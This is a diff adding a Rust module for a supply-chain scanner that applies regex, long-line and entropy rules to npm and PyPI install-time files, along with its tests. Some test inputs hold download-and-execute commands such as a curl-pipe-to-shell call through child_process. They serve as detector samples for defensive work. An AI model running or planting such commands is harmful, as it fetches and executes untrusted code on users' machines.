@@ -1,0 +1,421 @@
+//! Content rules over the install surface.
+//!
+//! Rules are data (`rules.toml`, compiled into the binary): an id, a default
+//! level, the ecosystems and moments (install, build, start-up) they apply
+//! to, regex patterns matched line by line, and examples that must and must
+//! not match, run as tests. All patterns are compiled once into one
+//! `RegexSet`, so a file is scanned once whatever the number of rules.
+
+use std::collections::BTreeMap;
+use std::sync::LazyLock;
+
+use regex::{Regex, RegexSet};
+use serde::{Deserialize, Serialize};
+use warden_archive::surface::excerpt;
+use warden_archive::{ArtifactKind, Runs, Surface};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Level {
+    Allow,
+    Warn,
+    Deny,
+}
+
+impl Level {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Allow => "allow",
+            Self::Warn => "warn",
+            Self::Deny => "deny",
+        }
+    }
+}
+
+/// A rule that fired, with its evidence.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Finding {
+    pub rule: String,
+    pub level: Level,
+    pub summary: String,
+    pub file: String,
+    pub line: Option<u32>,
+    pub excerpt: String,
+    /// How many times it matched in this file.
+    pub count: usize,
+}
+
+#[derive(Debug, thiserror::Error)]
+pub enum Error {
+    #[error("rules file: {0}")]
+    Toml(#[from] toml::de::Error),
+    #[error("rule `{rule}`: pattern `{pattern}` does not compile: {message}")]
+    Pattern {
+        rule: String,
+        pattern: String,
+        message: String,
+    },
+    #[error("rule id `{0}` appears twice")]
+    DuplicateId(String),
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+enum Kind {
+    Regex,
+    LongLine,
+    Entropy,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields, rename_all = "kebab-case")]
+pub struct Rule {
+    pub id: String,
+    pub level: Level,
+    pub description: String,
+    #[serde(default = "all_ecosystems")]
+    pub ecosystems: Vec<String>,
+    #[serde(default = "executed")]
+    pub runs: Vec<Runs>,
+    #[serde(default)]
+    patterns: Vec<String>,
+    #[serde(default = "one")]
+    min_matches: usize,
+    #[serde(default = "regex_kind")]
+    kind: Kind,
+    #[serde(default)]
+    threshold: usize,
+    #[serde(default)]
+    pub positive: Vec<String>,
+    #[serde(default)]
+    pub negative: Vec<String>,
+}
+
+fn all_ecosystems() -> Vec<String> {
+    vec!["npm".into(), "pypi".into()]
+}
+
+fn executed() -> Vec<Runs> {
+    vec![
+        Runs::Install,
+        Runs::Build,
+        Runs::Startup,
+        Runs::SourceInstall,
+    ]
+}
+
+fn one() -> usize {
+    1
+}
+
+fn regex_kind() -> Kind {
+    Kind::Regex
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RulesFile {
+    rule: Vec<Rule>,
+}
+
+/// Compiled rules.
+pub struct RuleSet {
+    rules: Vec<Rule>,
+    set: RegexSet,
+    /// For each pattern of `set`: its rule and its own regex (to locate it).
+    patterns: Vec<(usize, Regex)>,
+}
+
+const BUILTIN: &str = include_str!("../rules.toml");
+
+static BUILTIN_SET: LazyLock<RuleSet> =
+    LazyLock::new(|| RuleSet::from_toml(BUILTIN).unwrap_or_else(|e| panic!("built-in rules: {e}")));
+
+impl RuleSet {
+    /// The rules shipped with warden.
+    pub fn builtin() -> &'static RuleSet {
+        &BUILTIN_SET
+    }
+
+    pub fn from_toml(text: &str) -> Result<Self, Error> {
+        let file: RulesFile = toml::from_str(text)?;
+        let mut ids = std::collections::BTreeSet::new();
+        let mut sources = Vec::new();
+        let mut patterns = Vec::new();
+        for (i, rule) in file.rule.iter().enumerate() {
+            if !ids.insert(rule.id.clone()) {
+                return Err(Error::DuplicateId(rule.id.clone()));
+            }
+            for p in &rule.patterns {
+                let re = Regex::new(p).map_err(|e| Error::Pattern {
+                    rule: rule.id.clone(),
+                    pattern: p.clone(),
+                    message: e.to_string(),
+                })?;
+                sources.push(p.clone());
+                patterns.push((i, re));
+            }
+        }
+        let set = RegexSet::new(&sources).map_err(|e| Error::Pattern {
+            rule: "(set)".into(),
+            pattern: String::new(),
+            message: e.to_string(),
+        })?;
+        Ok(Self {
+            rules: file.rule,
+            set,
+            patterns,
+        })
+    }
+
+    pub fn rules(&self) -> &[Rule] {
+        &self.rules
+    }
+
+    /// Applies the rules to every text of the surface.
+    pub fn check(&self, surface: &Surface) -> Vec<Finding> {
+        let ecosystem = match surface.kind {
+            ArtifactKind::NpmPackage => "npm",
+            ArtifactKind::Wheel | ArtifactKind::Sdist => "pypi",
+            ArtifactKind::Unknown => return Vec::new(),
+        };
+        surface
+            .texts
+            .iter()
+            .flat_map(|t| self.check_text(ecosystem, t.runs, &t.path, &t.text))
+            .collect()
+    }
+
+    /// Applies the rules that cover `ecosystem` and `runs` to one text.
+    pub fn check_text(&self, ecosystem: &str, runs: Runs, path: &str, text: &str) -> Vec<Finding> {
+        let applies =
+            |r: &Rule| r.ecosystems.iter().any(|e| e == ecosystem) && r.runs.contains(&runs);
+        // rule index -> (first line, excerpt, count)
+        let mut hits: BTreeMap<usize, (u32, String, usize)> = BTreeMap::new();
+        for (n, line) in text.lines().enumerate() {
+            let n = n as u32 + 1;
+            for p in self.set.matches(line).iter() {
+                let (rule, re) = &self.patterns[p];
+                if !applies(&self.rules[*rule]) {
+                    continue;
+                }
+                for m in re.find_iter(line) {
+                    if self.rules[*rule].id == "raw-ip-url" && is_local_address(m.as_str()) {
+                        continue;
+                    }
+                    let entry = hits
+                        .entry(*rule)
+                        .or_insert_with(|| (n, around(line, m.start(), m.end()), 0));
+                    entry.2 += 1;
+                }
+            }
+            for (i, rule) in self.rules.iter().enumerate() {
+                if !applies(rule) {
+                    continue;
+                }
+                let hit = match rule.kind {
+                    Kind::Regex => None,
+                    Kind::LongLine => (line.len() >= rule.threshold)
+                        .then(|| format!("a {}-character line: {}", line.len(), excerpt(line))),
+                    Kind::Entropy => high_entropy(line, rule.threshold),
+                };
+                if let Some(ex) = hit {
+                    hits.entry(i).or_insert_with(|| (n, ex, 0)).2 += 1;
+                }
+            }
+        }
+        hits.into_iter()
+            .filter(|(i, (_, _, count))| *count >= self.rules[*i].min_matches)
+            .map(|(i, (line, excerpt, count))| {
+                let rule = &self.rules[i];
+                Finding {
+                    rule: rule.id.clone(),
+                    level: rule.level,
+                    summary: rule.description.clone(),
+                    file: path.to_owned(),
+                    line: Some(line),
+                    excerpt,
+                    count,
+                }
+            })
+            .collect()
+    }
+}
+
+fn is_local_address(url: &str) -> bool {
+    let host = url.split("://").nth(1).unwrap_or("");
+    host.starts_with("127.") || host.starts_with("0.0.0.0")
+}
+
+/// The match with some context, on one line.
+fn around(line: &str, start: usize, end: usize) -> String {
+    let from = line[..start]
+        .char_indices()
+        .rev()
+        .nth(59)
+        .map_or(0, |(i, _)| i);
+    let to = line[end..]
+        .char_indices()
+        .nth(60)
+        .map_or(line.len(), |(i, _)| end + i);
+    let mut out = String::new();
+    if from > 0 {
+        out.push('…');
+    }
+    out.push_str(line[from..to].trim());
+    if to < line.len() {
+        out.push('…');
+    }
+    out
+}
+
+/// A run of base64/hex-like characters at least `min_len` long whose
+/// Shannon entropy says it is encoded data rather than text.
+fn high_entropy(line: &str, min_len: usize) -> Option<String> {
+    static TOKEN: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/=_\-]{40,}").unwrap_or_else(|_| unreachable!()));
+    for m in TOKEN.find_iter(line) {
+        let s = m.as_str();
+        if s.len() < min_len {
+            continue;
+        }
+        let mut counts = [0usize; 256];
+        for b in s.bytes() {
+            counts[usize::from(b)] += 1;
+        }
+        let len = s.len() as f64;
+        let entropy: f64 = counts
+            .iter()
+            .filter(|&&c| c > 0)
+            .map(|&c| {
+                let p = c as f64 / len;
+                -p * p.log2()
+            })
+            .sum();
+        if entropy >= 5.0 {
+            return Some(format!(
+                "{} characters, {entropy:.1} bits/char: {}…",
+                s.len(),
+                &s[..40]
+            ));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_rule_matches_its_examples_and_only_them() {
+        let set = RuleSet::builtin();
+        assert!(set.rules().len() >= 14);
+        for rule in set.rules() {
+            for eco in &rule.ecosystems {
+                for text in &rule.positive {
+                    let found = set.check_text(eco, Runs::Install, "x.js", text);
+                    assert!(
+                        found.iter().any(|f| f.rule == rule.id),
+                        "`{}` missed {text:?}",
+                        rule.id
+                    );
+                }
+                for text in &rule.negative {
+                    let found = set.check_text(eco, Runs::Install, "x.js", text);
+                    assert!(
+                        !found.iter().any(|f| f.rule == rule.id),
+                        "`{}` matched {text:?}",
+                        rule.id
+                    );
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn rule_ids_are_unique_kebab_case() {
+        let ids: Vec<&str> = RuleSet::builtin()
+            .rules()
+            .iter()
+            .map(|r| r.id.as_str())
+            .collect();
+        let unique: std::collections::BTreeSet<_> = ids.iter().collect();
+        assert_eq!(unique.len(), ids.len());
+        for id in ids {
+            assert!(
+                id.chars().all(|c| c.is_ascii_lowercase() || c == '-'),
+                "{id}"
+            );
+        }
+    }
+
+    #[test]
+    fn evidence_has_file_line_and_excerpt() {
+        let text = "const a = 1;\nrequire('child_process').execSync('curl -s http://x.example.org/a | sh');\n";
+        let found = RuleSet::builtin().check_text("npm", Runs::Install, "install.js", text);
+        let f = found
+            .iter()
+            .find(|f| f.rule == "download-and-execute")
+            .unwrap();
+        assert_eq!(
+            (f.file.as_str(), f.line, f.level),
+            ("install.js", Some(2), Level::Deny)
+        );
+        assert!(f.excerpt.contains("| sh"), "{}", f.excerpt);
+    }
+
+    #[test]
+    fn computed_rules() {
+        let set = RuleSet::builtin();
+        let long = format!("var a={};", "x+".repeat(4000));
+        assert!(
+            set.check_text("npm", Runs::Install, "i.js", &long)
+                .iter()
+                .any(|f| f.rule == "long-line")
+        );
+        // 300 characters of pseudo-random base64.
+        let mut state = 7u64;
+        let payload: String = (0..300)
+            .map(|_| {
+                state = state
+                    .wrapping_mul(6364136223846793005)
+                    .wrapping_add(1442695040888963407);
+                let chars = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+                chars[(state >> 58) as usize] as char
+            })
+            .collect();
+        let text = format!("const p = '{payload}';");
+        assert!(
+            set.check_text("npm", Runs::Install, "i.js", &text)
+                .iter()
+                .any(|f| f.rule == "high-entropy-string")
+        );
+    }
+
+    #[test]
+    fn commands_are_not_install_time() {
+        let found = RuleSet::builtin().check_text(
+            "npm",
+            Runs::Command,
+            "cli.js",
+            "execSync('curl x | sh')",
+        );
+        assert!(found.is_empty());
+    }
+
+    #[test]
+    fn bad_rules_are_errors() {
+        assert!(
+            RuleSet::from_toml("[[rule]]\nid='a'\nlevel='deny'\ndescription='d'\npatterns=['(']\n")
+                .is_err()
+        );
+        assert!(RuleSet::from_toml("[[rule]]\nid='a'\nlevel='nope'\ndescription='d'\n").is_err());
+        assert!(matches!(
+            RuleSet::from_toml(
+                "[[rule]]\nid='a'\nlevel='warn'\ndescription='d'\n[[rule]]\nid='a'\nlevel='warn'\ndescription='d'\n"
+            ),
+            Err(Error::DuplicateId(_))
+        ));
+    }
+}
